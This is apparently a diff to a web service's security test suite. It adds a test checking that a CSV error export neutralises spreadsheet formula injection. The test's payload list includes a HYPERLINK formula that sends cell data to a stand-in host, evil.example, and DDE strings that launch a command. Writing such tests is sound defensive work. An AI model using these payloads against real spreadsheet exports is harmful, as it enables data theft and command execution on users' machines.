@@ -4,7 +4,9 @@ reaches the logs (a server is driven with valid, invalid, malformed and
 oversized credentials in every place a client might put them, then its log
 is searched), and the JWT checks of /rpc: alg confusion (RS256/ES256/HS512
 headers, case variants of "none", "none" with and without a signature),
-exp and nbf, crit, a QR key as a JWT and a JWT as a QR key.
+exp and nbf, crit, a QR key as a JWT and a JWT as a QR key; and errors.csv
+(the certificate surface's CSV export) neutralises formula injection. The
+mint CSV export is not on main yet and not covered.
 
 Constant-time comparison is not timed here (timed tests are not allowed):
 tests/unit/test_auth.c covers bd_token_check, which compares hash bytes with
@@ -191,3 +193,41 @@ def test_jwt_attacks_rejected(srv, demo):
     r = requests.get(srv.url + "/v1/batches", headers={"Authorization": "Bearer " + pr["jwt"]})
     assert r.status_code == 401 and r.json()["error"]["code"] == "unauthenticated"
 
+
+
+def test_errors_csv_neutralises_formulas(srv, demo):
+    """errors.csv (the certificate surface's export of failed rows) opened
+    in a spreadsheet: no cell may start a formula (= + - @, or tab / CR
+    before one) and no cell may break out into another row or column."""
+    biz = demo["business"]
+    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
+             "\t=tab", "\r=cr", "=1+1\r\nbad9,=injected", 'a"quote,comma', "=cmd|' /C calc'!A0", "-",
+             "safe name"]
+    rows = []
+    for i, v in enumerate(nasty):
+        q = '"%s"' % v.replace('"', '""')
+        rows.append('bad%d,%s' % (i, q))                          # a bad email, the payload as the name
+        rows.append('%s,Name %d' % (q, i))                         # the payload as the (bad) email
+    data = ("RecipientsEmail,RecipientsName\r\n" + "\r\n".join(rows) + "\r\n").encode()
+    r = requests.post(srv.url + "/business/batches", headers={"Authorization": "Bearer " + biz["token"]},
+                      files=[("name", (None, "formulas")), ("template_id", (None, biz["template_ids"]["plain"])),
+                             ("csv_file", ("r.csv", data, "text/csv"))])
+    assert r.status_code == 201, r.text
+    b = r.json()["data"]
+    assert b["failed_certificates"] == len(rows)
+    g = requests.get(srv.url + "/business/batches/%s/errors.csv" % b["id"],
+                     headers={"Authorization": "Bearer " + biz["token"]})
+    assert g.status_code == 200 and g.headers["Content-Type"].startswith("text/csv")
+    import csv
+    import io
+    out = list(csv.reader(io.StringIO(g.content.decode("utf-8"), newline="")))
+    assert out[0] == ["Row", "RecipientsEmail", "RecipientsName", "Reason"]
+    body = out[1:]
+    assert len(body) == len(rows), "a cell broke out into extra rows: %d rows for %d" % (len(body), len(rows))
+    assert all(len(x) == 4 for x in body), [x for x in body if len(x) != 4][:3]
+    for row in body:
+        for cell in row[1:3]:
+            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), "formula not neutralised: %r" % cell
+    # the values are kept (with the quote prefix), not mangled
+    names = {x[2] for x in body}
+    assert "'+SUM(1,2)" in names and "'-2+3" in names and 'a"quote,comma' in names and "safe name" in names
